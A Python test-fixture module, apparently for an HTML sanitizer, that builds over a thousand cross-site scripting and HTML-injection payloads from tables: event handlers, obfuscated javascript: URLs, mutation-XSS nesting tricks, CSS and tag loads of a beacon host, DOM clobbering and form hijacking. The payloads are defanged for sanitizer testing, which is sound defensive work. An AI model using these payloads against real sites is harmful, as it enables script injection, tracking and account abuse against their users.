"""HTML as Mallory writes it, by the hundred: made of tables, and beside them a public corpus where it lies at hand.

`RUN` is what would show in the console had it run; `AWAY` stands for a server that counts who asks it for anything.
"""

# ruff: noqa: E501  (an attack is not broken over two lines)

import json
from collections.abc import Iterator
from pathlib import Path

RUN = "console.log(/RAN/)"
AWAY = "http://away.invalid"
# The public corpus (H5SC, and the tests of bleach and ammonia) lies beside the repository, or it is done without.
_CORPUS = Path(__file__).parents[3] / "shared" / "corpora" / "html" / "vectors.jsonl"

_TAGS = (
    "img src=x", "svg", "body", "video src=x", "audio src=x", "iframe", "details open", "input autofocus", "select autofocus",
    "textarea autofocus", "marquee", "object data=x", "embed src=x", "link rel=stylesheet href=x", "style", "math", "a href=#",
    "button autofocus", "form", "table background=x", "div", "p", "x-own", "source src=x", "isindex", "frameset", "template",
    "image src=x", "svg><animate", "svg><set", "math><mtext", "dialog open", "meter", "keygen autofocus",
)  # fmt: skip
_EVENTS = (
    "onload", "onerror", "onfocus", "ontoggle", "onstart", "onbegin", "onmouseover", "onanimationstart",
    "onbeforescriptexecute", "onpointerrawupdate", "onscrollend", "oncontentvisibilityautostatechange",
)  # fmt: skip
_GLUE = ("<{tag} {event}={run}>", '<{tag}/{event}="{run}"//', "<{tag}\x0c{event}\t=\n'{run}'>")
_ADDRESSED = (
    "a href", "area href", "form><button formaction", "form action", "iframe src", "object data", "embed src", "img src", "base href",
    "link rel=import href", "math href", "svg><a xlink:href", "svg><use href", "video poster", "input type=image src",
    "svg><animate attributeName=href to", "blockquote cite", "img lowsrc", "img dynsrc", "table background",
)  # fmt: skip
_SCRIPT_ADDRESSES = (
    "javascript:{run}", "JaVaScRiPt:{run}", " \x01javascript:{run}", "java\tscript:{run}", "java&#10;script:{run}",
    "&#106;avascript:{run}", "&#x6A&#x61vascript&colon;{run}", "javascript&Tab;:{run}", "vbscript:{run}",
    "data:text/html,<script>{run}</script>", "data:text/html;base64,PHNjcmlwdD5jb25zb2xlLmxvZygvUkFOLyk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'/>", "feed:javascript:{run}", "blob:{run}",
)  # fmt: skip
_LOADING = (
    '<link rel="{rel}" href="{away}/l">', "<style>@import '{away}/s';</style>", "<base href='{away}/'><img src='rel.png'>",
    "<meta http-equiv=refresh content='0;url={away}/m'>", "<iframe src={away}/i></iframe>", "<iframe srcdoc='<img src={away}/i>'></iframe>",
    "<object data={away}/o></object>", "<embed src={away}/e>", "<video src={away}/v poster={away}/p autoplay></video>",
    "<audio src={away}/a autoplay></audio>", "<video><source src={away}/v><track default src={away}/t></video>",
    "<img src='{away}/1'>", "<img src=//{host}/2>", "<img src='\\\\{host}/3'>", "<img src='http:/{host}/4'>", "<img srcset='{away}/5 1x, {away}/6 2x'>",
    "<picture><source srcset={away}/7><img></picture>", "<img src=x lowsrc={away}/8 dynsrc={away}/9>", "<image src={away}/10>",
    "<input type=image src={away}/11>", "<table background={away}/12><td background={away}/13>", "<body background={away}/14>",
    "<svg><image href={away}/15></image><use href='{away}/16#x'></use></svg>", "<svg><filter><feImage href={away}/17></feImage></filter></svg>",
    "<math><mi href={away}/18 xlink:href={away}/19>x</mi></math>", "<bgsound src={away}/20>", "<script src={away}/21></script>",
    "<frameset><frame src={away}/22></frameset>", "<applet archive={away}/23></applet>", "<a href=x ping={away}/24>x</a>",
    "<html manifest={away}/25>", "<head profile={away}/26>", "<xml src={away}/27>", "<ins cite={away}/28>x</ins>", "<layer src={away}/29>",
    "<portal src={away}/30></portal>", "<fencedframe src={away}/31></fencedframe>", "<img crossorigin src='{away}/32' loading=eager>",
    "<style>@font-face{{font-family:x;src:url({away}/33)}} *{{font-family:x}}</style>", "<link rel=stylesheet imagesrcset={away}/34 href=data:,>",
    "<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"{away}/35\"/></svg>'>",
)  # fmt: skip
_RELATIONS = (
    "stylesheet",
    "icon",
    "prefetch",
    "preload",
    "preconnect",
    "dns-prefetch",
    "modulepreload",
    "prerender",
    "manifest",
    "next",
    "search",
)
_PAINTED = (
    "background:url({away}/c1)", "background-image:image-set('{away}/c2' 1x)", "list-style:url({away}/c3)", "cursor:url({away}/c4),auto",
    "content:url({away}/c5)", "border-image:url({away}/c6) 1", "filter:url({away}/c7#f)", "mask:url({away}/c8)", "clip-path:url({away}/c9#c)",
    "shape-outside:url({away}/c10)", "offset-path:url({away}/c11)", "behavior:url({away}/c12)", "-moz-binding:url({away}/c13#x)",
    "background:u\\72l({away}/c14)", "background:/**/url/**/({away}/c15)", "background:url(&quot;{away}/c16&quot;)", "--x:url({away}/c17);background:var(--x)",
    "width:expression({run})", "background:url(javascript:{run})", "src:url({away}/c18)", "-webkit-mask-box-image:url({away}/c19)",
    "cursor:-webkit-image-set(url({away}/c20) 1x),auto", "background:cross-fade(url({away}/c21),url({away}/c21),50%)", "font:1px/1 url({away}/c22)",
)  # fmt: skip
_MUTATING = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={run}&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror={run}>'>", "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={run}>", "<svg><style><img src=x onerror={run}></style></svg>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror={run}></style></annotation-xml></math>",
    "<svg><title><style><img src=x onerror={run}></style></title></svg>", "<svg><desc><!--></desc><img src=x onerror={run}>-->",
    "<textarea><p title='</textarea><img src=x onerror={run}>'>", "<xmp><p title='</xmp><img src=x onerror={run}>'></xmp>",
    "<noembed><p title='</noembed><img src=x onerror={run}>'>", "<iframe><p title='</iframe><img src=x onerror={run}>'>",
    "<plaintext><img src=x onerror={run}>", "<listing>&lt;img src=x onerror={run}&gt;</listing>", "<template><img src=x onerror={run}></template>",
    "<template shadowrootmode=open><img src=x onerror={run}></template>", "<select><style></select><img src=x onerror={run}></style></select>",
    "<table><td><svg><desc><td><style><a title='</style><img src=x onerror={run}>'>", "<a title='`<img src=x onerror={run}>`'>x</a>",
    "<p id='`onmouseover={run}'>x</p>", "<!--><img src=x onerror={run}>-->", "<!--!><img src=x onerror={run}>--!>", "<![CDATA[><img src=x onerror={run}>]]>",
    "<?xml><img src=x onerror={run}>?>", "<!DOCTYPE x [<!ENTITY y '<img src=x onerror={run}>'>]>&y;", "</p><img src=x onerror={run}", "<<img src=x onerror={run}>>",
    "<img src='x' title='&quot; onerror={run} x=&quot;'>", "<img alt=\"&lt;/style&gt;&lt;script&gt;{run}&lt;/script&gt;\">", "<style></style/><img src=x onerror={run}>",
    "<scr<script>ipt>{run}</scr</script>ipt>", "<script\x00>{run}</script>", "<script/x>{run}</script\n>", "<script type=module>{run}</script>", "<svg><script>{run}</script></svg>",
    "<svg><script href='data:,{run}'/></svg>", "+ADw-script+AD4-{run}+ADw-/script+AD4-", "\xbcscript\xbe{run}\xbc/script\xbe", "<script>{run}", "</title><script>{run}</script>",
    "</style></head><body onload={run}>", "</body></html><script>{run}</script>", "<details class='quote' open ontoggle={run}><summary>x</summary></details>",
)  # fmt: skip
_MEDDLING = (
    "<form action={away}/f method=post><button>Send</button></form>", "<form id=x action={away}/f></form><button form=x>Send</button>",
    "<input form=x formaction={away}/f type=submit>", "<form name=querySelector><input name=body></form>", "<img name=currentScript>",
    "<a id=location></a><a id=location name=href href=x>x</a>", "<form id=conversation><input id=thread></form>", "<div id=toasts>x</div>",
    "<mail-frame data-src=/sign-out></mail-frame>", "<post-composer></post-composer>", "<div hx-get=/sign-out hx-trigger=load>x</div>",
    "<div data-hx-on:load='{run}'>x</div>", "<p data-show-images data-unfold class=message-head>x</p>", "<label for=x>y</label><input id=x type=file>",
    "<isindex action={away}/f>", "<keygen>", "<meta name=referrer content=unsafe-url>", "<meta charset=utf-7>", "<a href='/sign-out' target=_top>x</a>",
    "<meta http-equiv=Content-Security-Policy content=\"img-src *; script-src * 'unsafe-inline'\">", "<meta http-equiv=Set-Cookie content=x=y>",
    "<img src=/sign-out>", "<img src=/framed-images/x>", "<dialog open>x</dialog>", "<div popover id=p>x</div><button popovertarget=p>x</button>",
    "<div style='position:fixed;inset:0;z-index:2147483647;background:red;width:9999px;height:9999px'>x</div>",
    "<div style='position:absolute;top:-9999px;left:-9999px'>x</div>", "<div style='margin:-9999px 0 0 -9999px;padding:9999px'>x</div>",
    "<style>*{{position:fixed;top:0;left:0}} ::backdrop{{background:red}}</style>", "<div style='transform:scale(99) translate(-50%)'>x</div>",
    "<div style='width:99999px;height:1px'>x</div>", "<table width=99999 height=1><td>x</table>", "<font size=99999>x</font>", "<marquee>x</marquee>", "<blink>x</blink>",
)  # fmt: skip


def own_vectors() -> Iterator[str]:
    """Make the tables' attacks, more than a thousand."""
    for number, tag in enumerate(_TAGS):
        for event in _EVENTS:
            yield _filled(_GLUE[number % 3].replace("{tag}", tag).replace("{event}", event))
    for number, place in enumerate(_ADDRESSED):
        for address in _SCRIPT_ADDRESSES:
            quote = "\"'"[number % 2] if "'" not in address else '"'
            yield _filled(f"<{place}={quote}{address}{quote}>x</{place.split()[0]}>")
    for form in _LOADING:
        for relation in _RELATIONS if "{rel}" in form else ("",):
            yield _filled(form.replace("{rel}", relation))
    for paint in _PAINTED:
        yield _filled(f'<div style="{paint}">x</div>')
        yield _filled(f"<style>body *{{{{{paint}}}}}</style>")
    for form in _MUTATING + _MEDDLING:
        yield _filled(form)


def public_vectors() -> list[str]:
    """Return the public corpus, nothing when it is not there."""
    if not _CORPUS.exists():
        return []
    return [json.loads(line)["html"] for line in _CORPUS.read_text().splitlines()]


def _filled(form: str) -> str:
    host = AWAY.removeprefix("http://")
    for mark, words in (("{run}", RUN), ("{away}", AWAY), ("{host}", host), ("{{", "{"), ("}}", "}")):
        form = form.replace(mark, words)
    return form
